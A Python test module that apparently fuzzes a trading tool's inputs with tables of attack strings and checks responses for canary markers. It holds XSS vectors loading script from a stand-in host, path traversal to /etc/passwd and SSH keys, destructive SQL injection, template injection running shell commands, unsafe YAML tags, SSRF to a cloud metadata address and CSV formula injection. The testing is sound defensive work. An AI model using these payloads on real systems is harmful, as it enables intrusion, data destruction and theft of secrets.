"""Hostile texts by kind, for whatever takes a text from outside; add to the tables what is missing.

Each does something that is noticed where it works: a script would carry `MARK`, a template would
print `PRODUCT`, a path would lead to a file that holds `SECRET`, a header would be `INJECTED`.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from html.parser import HTMLParser
from itertools import product
from urllib.parse import quote

MARK = "zq9"
FACTORS = (7919, 104729)
PRODUCT = str(FACTORS[0] * FACTORS[1])
SECRET = "canary-4f1d9c2b7a"
INJECTED = "x-injected"
# Of these, elements and attributes may hold a text from outside.
_TEXTS = ("value", "title", "content", "alt", "placeholder", "datetime", "label")
# What libraries say where something went wrong within.
_WORDS = (
    "sqlite3.", "psycopg", "OperationalError", "ProgrammingError", "syntax error at or near",
    "Traceback (most", "jinja2.", "UndefinedError",
)  # fmt: skip
_LINKS = ("href", "src", "action", "formaction", "data", "poster", "xlink:href")


@dataclass(frozen=True)
class Payload:
    """A text of a kind; `text` may hold anything but a lone surrogate."""

    kind: str
    text: str


_MARKUP = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=//{1}></script>",
    "<script/x>{0}</script>", "<script\n>{0}</script >", "<<script>{0}//<</script>",
    "</script><script>{0}</script>", "</style><script>{0}</script>", "--><script>{0}</script>",
    "]]><script>{0}</script>", "</title><script>{0}</script>", "</textarea><script>{0}</script>",
    "</noscript><script>{0}</script>", "</pre><script>{0}</script>", "<!--><script>{0}</script>",
    "<img src=x onerror={0}>", "<img src=x onerror={0}//", "<img/src=x/onerror={0}>",
    "<img src='x'onerror='{0}'>", "<img src=`x`onerror={0}>", "<IMG SRC=javascript:{0}>",
    "<img src=x:x onerror\n=\n{0}>", "<img srcset=x onerror={0}>", "<image src=x onerror={0}>",
    "<svg onload={0}>", "<svg/onload={0}//", "<svg><script>{0}</script></svg>",
    "<svg><script xlink:href=data:,{0}></script>", "<svg><a xlink:href=javascript:{0}><text>x",
    "<svg><animate onbegin={0} attributeName=x>", "<svg><set onbegin={0} attributeName=x>",
    "<math><mtext><script>{0}</script></mtext></math>", "<math href=javascript:{0}>x</math>",
    "<math><mglyph><style><img src=x onerror={0}></style></mglyph></math>",
    "<a href=javascript:{0}>x</a>", "<a href=' javascript:{0}'>x</a>",
    "<a href='java\tscript:{0}'>x</a>", "<a href='&#106;avascript:{0}'>x</a>",
    "<a href=\x01javascript:{0}>x</a>", "<a href=data:text/html,<script>{0}</script>>x</a>",
    "<a href=vbscript:{0}>x</a>", "<a onmouseover={0}>x</a>", "<b style=width:expression({0})>x",
    "<body onload={0}>", "<body onpageshow={0}>", "<iframe src=javascript:{0}></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>", "<iframe onload={0}></iframe>",
    "<object data=javascript:{0}></object>", "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><input type=submit>", "<button formaction=javascript:{0}>x",
    "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<keygen onfocus={0}>",
    "<textarea autofocus onfocus={0}>", "<video><source onerror={0}></video>",
    "<video src=x onerror={0}></video>", "<audio src=x onerror={0}></audio>",
    "<details open ontoggle={0}>", "<marquee onstart={0}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<base href=//{1}/>",
    "<link rel=stylesheet href=//{1}>", "<link rel=import href=//{1}>",
    "<style>@import'//{1}'</style>", "<style>*{{x:{0}}}</style>",
    "<table background=javascript:{0}>", "<isindex action=javascript:{0}>", "<x onclick={0}>x</x>",
    "<template><script>{0}</script></template>", "<slot onslotchange={0}>",
    "<dialog open onclose={0}>", "<portal src=javascript:{0}>", "<p hx-on:click={0}>x",
    "<p hx-get=//{1} hx-trigger=load>", "<p data-hx-get=//{1}>", "<p hx-vals='js:{0}'>",
)  # fmt: skip
_BREAKING = (
    '"><script>{0}</script>', "'><script>{0}</script>", '" onmouseover={0} x="',
    "' onmouseover={0} x='", '" autofocus onfocus={0} x="', "` onmouseover={0}",
    " onmouseover={0} ", '"onload={0} ', "';{0};'", '";{0};"', "\\';{0};//", '\\";{0};//',
    "`;{0};`", "${{{0}}}", "*/{0}/*", "//\n{0}\n//", "</script>{0}<script>", "<!--<script>{0}",
    "\u2028{0}\u2029", "javascript:{0}", "JaVaScRiPt:{0}", "data:text/html;base64,PHNjcmlwdD4{1}",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;",
    "\x00<script>{0}</script>", "\ufeff<script>{0}</script>", "+ADw-script+AD4-{0}",
    "<\u212acript>{0}", "\uff1cscript\uff1e{0}", "<scr\x00ipt>{0}</scr\x00ipt>",
    "\u202e<script>{0}</script>", "%3Cscript%3E{0}%3C/script%3E",
)  # fmt: skip


def _scripts() -> list[str]:
    call = f"alert('{MARK}')"
    return [text.format(call, f"{MARK}.example") for text in (*_MARKUP, *_BREAKING)]


def _paths() -> list[str]:
    """Return ways to the file `SECRET`, which is two folders above that of the runs, and others."""
    ups = ("../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f", "....//",
           "..;/", ".%00./", "\u2025/", "..%c0%af", "..%ef%bc%8f", "\uff0e\uff0e/")  # fmt: skip
    targets = ("secret.txt", "outside/secret.txt", "etc/passwd")
    climbing = [up * depth + target for up, depth, target in product(ups, (2, 3), targets)]
    return [
        *climbing, "/etc/passwd", "//etc/passwd", "file:///etc/passwd", "C:\\Windows\\win.ini",
        "~/.ssh/id_rsa", "\\\\host\\share", "/proc/self/environ", "/dev/zero", "/dev/stdin", ".",
        "..", "/", "//", ".env", "../.env", "%2e%2e/%2e%2e/.env", "strategies/../.env",
        "runs/.rtrade-lock", "...", ".rtrade/rtrade.db", "../.rtrade/rtrade.db", "%00",
        "secret.txt%00.yaml", "con", "nul", "aux", "a" * 5000, "a/" * 500, "-", "--help", "-rf",
        "*", "?", "~root", "$HOME", "$(id)", "`id`", "|id", ";id", "&id", "sma_btc.yaml/..",
        "sma_btc.yaml", "sma_btc/", "sma_btc%2f", "sma_btc\n", "SMA_BTC", "sma_btc ", "sma_btc.",
        "sma_btc::$DATA",
    ]  # fmt: skip


_SQL = (
    "'", '"', "`", "''", "\\", "\\'", "';--", "' --", "'#", "' or '1'='1", "' or 1=1--",
    "' or ''='", '" or ""="', ") or (1=1", "1 or 1=1", "1' or '1'='1' /*", "' or 1=1 limit 1 --",
    "admin'--", "'; drop table runs; --", "'; drop table bars; --", "1; delete from runs",
    "'; vacuum; --", "'; attach database '/tmp/zq9.db' as x; --", "'; pragma writable_schema=1; --",
    "'; copy runs to '/tmp/zq9'; --", "'; select pg_sleep(30); --", "' and sleep(30) --",
    "' and 1=(select count(*) from bars) --", "' union select 1 --", "' union select null,null --",
    "' union select sqlite_version() --", "' union select version() --", "' union all select 1,2,3",
    "' union select sql from sqlite_master --", "' union select usename from pg_user --",
    "' union select body from documents --", "1 union select 1", "%' or '%'='", "_", "%", "%%%%%",
    "' || (select 1) || '", "' + (select 1) + '", "'||'a", "concat('a','b')", "char(39)", "0x27",
    "x'27'", "e'\\''", "$$;drop table runs;$$", "$1", ":id", "?", "@x", "%(id)s", "%s", "{id}",
    "1e309", "-1", "999999999999999999999", "NULL", "null", "true", "NaN", "Infinity", "1/0",
    "randomblob(1000000000)", "(select 1)", "1;", "/**/", "1/**/or/**/1=1", "\u02bc or 1=1",
    "\uff07", "' order by 100 --", "' group by 1 having 1=1 --", "' like '%", "' glob '*",
    "' escape '", "' collate nocase --", "' in (select 1) --", "' is not null --",
    "' between '' and 'z", "sharpe>=1 or 1=1", "sharpe>=(select 1)", "sharpe>='1'",
    "run_id; drop table runs", "started desc",
)  # fmt: skip

_A, _B = FACTORS
_TEMPLATES = (
    "{{a*b}}", "{{ a*b }}", "{{-a*b-}}", "{%print(a*b)%}", "{% if 1 %}{{a*b}}{% endif %}", "${a*b}",
    "#{a*b}", "${{a*b}}", "<%= a*b %>", "<%=a*b%>", "[[${a*b}]]", "*{a*b}", "@{a*b}", "{{= a*b }}",
    "{a*b}", "{{{a*b}}}", "{{a*b|string}}", "{{'%d'%(a*b)}}", "{{(a*b)|safe}}", "{# x #}{{a*b}}",
    "{% raw %}{{a*b}}{% endraw %}", "{{[a*b]|first}}", "{{self}}", "{{config}}", "{{request}}",
    "{{request.environ}}", "{{g}}", "{{session}}", "{{url_for}}", "{{cycler}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.environ }}", "{{ get_flashed_messages.__globals__ }}",
    "{% include '/etc/passwd' %}", "{% import os %}", "{% for x in range(10**9) %}{% endfor %}",
    "{{ 'a' * 10**9 }}", "{{ ().__class__ }}", "{{ nonce }}",
    "{% extends 'serving/login.html.j2' %}", "%(a)s", "{0.__class__}", "{problem.status.__class__}",
    "__import__('os').system('id')",
)  # fmt: skip

_YAML = (
    "!!python/object/apply:os.system ['id']", "!!python/name:os.system", "!!python/module:os",
    "!!python/object/new:type {args: [x, [], {}]}", "!!js/function 'x'", "!<tag:x> y", "!x y",
    "!!binary aGk=", "!!set {a, b}", "!!timestamp x", "!!int ''", "&a [*a]", "*a", "&a x",
    "a: &a [x, x]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\nd: [*c, *c, *c]", "<<: {a: 1}",
    "a: {<<: *b}", "a: 1\na: 2", "? {a: 1}\n: b", "? [x]\n: y", "a:\n\t- b", "a: 'unclosed",
    'a: "\\x"', 'a: "\\ud800"', "a: |\n  text", "--- a\n--- b", "%YAML 1.1\n---\na: b",
    "%TAG ! x\n---", "[" * 200, "{" * 200, "- " * 200, "a: " * 200, "x" * 300, "{a: [}", "\u2028",
    "\x00", "\x1b[31m", "rtrade: 1\nname: x\ndata: {source: ../x}",
    "rtrade: 1\ninclude: /etc/passwd", "rtrade: ${env:HOME}",
    "rtrade: 1\nname: ${env:RTRADE_TOKEN}", "rtrade: {{ 1 }}", "rtrade: 1e999", "rtrade: 0x1",
    "rtrade: 1\nsignals: {a: __import__('os')}", "rtrade: 1\nsignals: {a: ().__class__}",
    "rtrade: 1\nsignals: {a: 9**9**9**9}",
    "rtrade: 1\nsignals: {a: (((((((((((((((((((((((((((((((((((((((((((((x}",
    "rtrade: 1\nsignals: {a: lambda: 1}", "rtrade: 1\nsignals: {a: '" + "-" * 500 + "1'}",
    "kind: exchange\nbase_url: http://169.254.169.254/", "kind: csv\nseries: [{path: /etc/passwd}]",
    "kind: llm\napi_key: ${env:RTRADE_TOKEN}", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1)",
)  # fmt: skip

_HEADERS = (
    "x\r\nX-Injected: 1", "x\nX-Injected: 1", "x\rX-Injected: 1", "x%0d%0aX-Injected: 1",
    "x%0aX-Injected:%201", "x\u560d\u560aX-Injected: 1", "x%E5%98%8D%E5%98%8AX-Injected: 1",
    "x\r\n\r\n<script>zq9</script>", "x%0d%0a%0d%0a<script>zq9</script>", "\t", "\x0b", "\x7f",
    "\xff", "evil.example", "evil.example:80", "127.0.0.1.evil.example", "127.0.0.1@evil.example",
    "evil.example#127.0.0.1", "evil.example/127.0.0.1", "127.0.0.1:80#@evil.example", "localhost.",
    "localhost:99999999", "0x7f000001", "2130706433", "127.1", "0.0.0.0", "[::]",
    "[::ffff:127.0.0.1]", "[::1]evil.example", "//evil.example", "https://evil.example",
    "http://127.0.0.1:1@evil.example", "\\\\evil.example", "evil.example\t127.0.0.1",
    "127.0.0.1, evil.example", "null", "*", "none", "a" * 8000, "gzip;q=x", "bytes=0-99999999999",
    'W/"x"', '"', '"' * 3000, "*, *", "text/html;q=9",
)  # fmt: skip


def _filled(text: str) -> str:
    return text.replace("a*b", f"{_A}*{_B}")


TABLES: dict[str, list[str]] = {
    "script": _scripts(),
    "path": _paths(),
    "sql": list(_SQL),
    "template": [_filled(text) for text in _TEMPLATES],
    "yaml": list(_YAML),
    "header": list(_HEADERS),
}
PAYLOADS = [Payload(kind, text) for kind, texts in TABLES.items() for text in texts]


# These got through once: they are sent in every run of the tests.
_ONCE = {"NULL", "999999999999999999999", "2130706433", "\u2025/\u2025/secret.txt"}


def chosen() -> list[Payload]:
    """Return every tenth payload and those of `_ONCE`; with RTRADE_HOSTILE=all, all of them."""
    if os.environ.get("RTRADE_HOSTILE") == "all":
        return PAYLOADS
    return [one for at, one in enumerate(PAYLOADS) if at % 10 == 0 or one.text in _ONCE]


def in_address(text: str) -> str:
    """Return a text as a part of an address: what is encoded already stays as it is."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="%/")


def whole(text: str) -> str:
    """Return a text as the value of a query: whatever is in it is a part of it."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._inside: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag if tag in ("script", "style") else self._inside
        if MARK in tag:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            text = value or ""
            led = name in _LINKS and not text.lstrip("\x00\x01\t\n ").startswith(("/", "#", "?"))
            texts = name in _TEXTS or name.startswith(("aria-", "data-")) or name in _LINKS
            if MARK in name or (MARK in text and (led or not texts)):
                self.found.append(f"<{tag} {name}={text!r}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == self._inside:
            self._inside = None

    def handle_data(self, data: str) -> None:
        if self._inside is not None and MARK in data:
            self.found.append(f"<{self._inside}> {data!r}")


def effects(body: str, *, page: bool) -> list[str]:
    """Return what a payload has done to an answer; `page`: it is HTML, which a browser runs."""
    found = [word for word in (PRODUCT, SECRET, "root:x:0:0", "for 16-bit app") if word in body]
    found += [word for word in _WORDS if word in body]
    if page:
        reader = _Page()
        reader.feed(body)
        reader.close()
        found += reader.found
    return found
